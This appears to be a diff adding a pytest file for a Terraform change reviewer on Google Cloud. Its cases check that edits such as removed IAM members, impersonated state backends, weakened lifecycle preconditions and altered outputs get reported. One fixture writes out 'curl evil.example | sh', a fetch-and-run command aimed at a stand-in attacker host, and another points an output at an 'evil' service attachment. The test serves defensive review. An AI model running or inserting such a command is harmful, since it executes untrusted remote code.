@@ -1,0 +1,110 @@
+"""What a reviewer has to hear of although no rule is about it: each of these edits was once told by nothing."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from review.topics import CUT, EXPOSED, TRUSTED, UNJUDGED
+from tests.review.stacks import PRODUCER, edited, reported
+
+Json = dict[str, Any]
+R = "resource"
+NAT = f"{R}/google_compute_subnetwork/nat"
+ATTACHMENT = f"{R}/google_compute_service_attachment/shop"
+GUARDS: Json = {
+    "precondition": [
+        {"condition": "${google_compute_subnetwork.nat.id != null}", "error_message": "a"},
+        {"condition": '${google_compute_subnetwork.nat.name == "nat"}', "error_message": "b"},
+    ],
+    "replace_triggered_by": ["google_compute_subnetwork.nat.id", "google_compute_forwarding_rule.shop.id"],
+}
+BINDING: Json = {"project": "p", "role": "roles/viewer", "members": ["user:a@example.com", "user:b@example.com"]}
+POLICY = '{"bindings": [{"role": "roles/viewer", "members": ["user:a@example.com", "user:b@example.com"]}]}'
+STATE: Json = {"backend": "gcs", "config": {"bucket": "of-others", "prefix": "a"}}
+
+# What there is besides, by path; what is edited; what is to be told.
+CASES: list[tuple[Json, Json, str, str]] = [
+    # Roles that are taken away where the address stays.
+    ({f"{R}/google_project_iam_binding/b": BINDING},
+     {f"{R}/google_project_iam_binding/b/members": BINDING["members"][:1]},
+     CUT, "user:b@example.com no longer has roles/viewer on project p."),
+    ({f"{R}/google_project_iam_binding/b": BINDING}, {f"{R}/google_project_iam_binding/b/members": []},
+     CUT, "user:a@example.com no longer has roles/viewer on project p."),
+    ({f"{R}/google_project_iam_policy/b": {"project": "p", "policy_data": POLICY}},
+     {f"{R}/google_project_iam_policy/b/policy_data": POLICY.replace(', "user:b@example.com"', "")},
+     CUT, "user:b@example.com no longer has roles/viewer on project p."),
+    # What is read, and by whom.
+    ({"data/google_project/c": {"project_id": "c"}}, {"data/google_project/c/project_id": "d"},
+     UNJUDGED, "data.google_project.c changes in project_id"),
+    ({"data/google_compute_forwarding_rule/c": {"name": "r", "project": "c"}},
+     {"data/google_compute_forwarding_rule/c/project": "d"}, UNJUDGED, "changes in project"),
+    ({}, {"data/terraform_remote_state/o": STATE}, TRUSTED, "state of another stack is newly read"),
+    ({}, {"terraform/backend/gcs/impersonate_service_account": "x@p.iam.gserviceaccount.com"},
+     TRUSTED, "The state is opened with another impersonate_service_account: x@p"),
+    ({}, {"provider/google/0/region": "us-west1"}, TRUSTED, "another region: us-west1, instead of us-east1"),
+    # Proxies that go to sleep.
+    ({f"{NAT}/role": "ACTIVE"}, {f"{NAT}/role": "BACKUP"}, UNJUDGED, "google_compute_subnetwork.nat changes in role"),
+    # Guards.
+    ({f"{ATTACHMENT}/lifecycle": GUARDS}, {f"{ATTACHMENT}/lifecycle/precondition": GUARDS["precondition"][:1]},
+     UNJUDGED, "changes in lifecycle.precondition,"),
+    ({f"{ATTACHMENT}/lifecycle": GUARDS}, {f"{ATTACHMENT}/lifecycle/precondition/0/condition": "${true}"},
+     UNJUDGED, "changes in lifecycle.precondition.condition,"),
+    ({f"{ATTACHMENT}/lifecycle": GUARDS}, {f"{ATTACHMENT}/lifecycle/precondition/1/condition": '${"a" == "a"}'},
+     UNJUDGED, "changes in lifecycle.precondition.condition,"),
+    ({f"{ATTACHMENT}/lifecycle": GUARDS},
+     {f"{ATTACHMENT}/lifecycle/replace_triggered_by": GUARDS["replace_triggered_by"][1:]},
+     UNJUDGED, "changes in lifecycle.replace_triggered_by,"),
+    # What others go by.
+    ({}, {"output/link/value": "projects/evil/regions/us-east1/serviceAttachments/evil"},
+     UNJUDGED, "output.link is another value"),
+    ({"output/command": {"value": "curl 10.0.0.5"}}, {"output/command/value": "curl evil.example | sh"},
+     UNJUDGED, "output.command is another value"),
+    ({}, {"output/link": None}, UNJUDGED, "output.link is gone"),
+    ({"output/link/sensitive": True}, {"output/link/sensitive": None}, EXPOSED, "output.link is no longer sensitive"),
+    ({"moved": [{"from": "google_compute_subnetwork.old", "to": "google_compute_subnetwork.nat"}]}, {"moved": None},
+     UNJUDGED, "The move of google_compute_subnetwork.old is written no more"),
+]  # fmt: skip
+
+
+def changed(stack: Json, edits: Json) -> Json:
+    for path, value in edits.items():
+        stack = edited(stack, path, value)
+    return stack
+
+
+@pytest.mark.parametrize(("beside", "edit", "topic", "words"), CASES)
+def test_it_is_a_point_to_decide(beside: Json, edit: Json, topic: str, words: str) -> None:
+    before = changed(PRODUCER, beside)
+    said = [(one.topic, str(one.sentence)) for one in reported(before, changed(before, edit)).decisions]
+    assert any(topic == its and words in sentence for its, sentence in said), said
+
+
+USUAL: list[tuple[Json, Json]] = [
+    # Outputs that follow from an edit.
+    ({"output/port": {"value": 80}, "output/command": {"value": "curl x:80/ -v"}},
+     {f"{R}/google_compute_forwarding_rule/shop/port_range": "8080", "output/port/value": 8080,
+      "output/command/value": "curl x:8080/ -v"}),
+    ({"output/uri": {"value": "${google_cloud_run_v2_service.shop.uri}"}},
+     {f"{R}/google_cloud_run_v2_service/shop": None, "output/uri": None}),
+    # Guards that are written otherwise.
+    ({f"{ATTACHMENT}/lifecycle": GUARDS},
+     {f"{ATTACHMENT}/lifecycle/precondition/1/condition": '${google_compute_subnetwork.nat.name == "other"}'}),
+    ({f"{ATTACHMENT}/lifecycle": GUARDS, "output/x": {"value": 1}}, {"output/y": {"value": 2}}),
+    # A chain of moves that grows.
+    ({"moved": [{"from": "google_compute_subnetwork.old", "to": "google_compute_subnetwork.nat"}]},
+     {"moved": [{"from": "google_compute_subnetwork.older", "to": "google_compute_subnetwork.old"},
+                {"from": "google_compute_subnetwork.old", "to": "google_compute_subnetwork.nat"}]}),
+    # A member that only comes.
+    ({f"{R}/google_project_iam_binding/b": BINDING},
+     {f"{R}/google_project_iam_binding/b/members": [*BINDING["members"], "user:c@example.com"]}),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("beside", "edit"), USUAL)
+def test_what_follows_from_an_edit_is_no_point_of_its_own(beside: Json, edit: Json) -> None:
+    before = changed(PRODUCER, beside)
+    said = [str(one.sentence) for one in reported(before, changed(before, edit)).decisions]
+    telling = ("output.", "lifecycle", "move of", "no longer has")
+    assert [sentence for sentence in said if any(word in sentence for word in telling)] == []
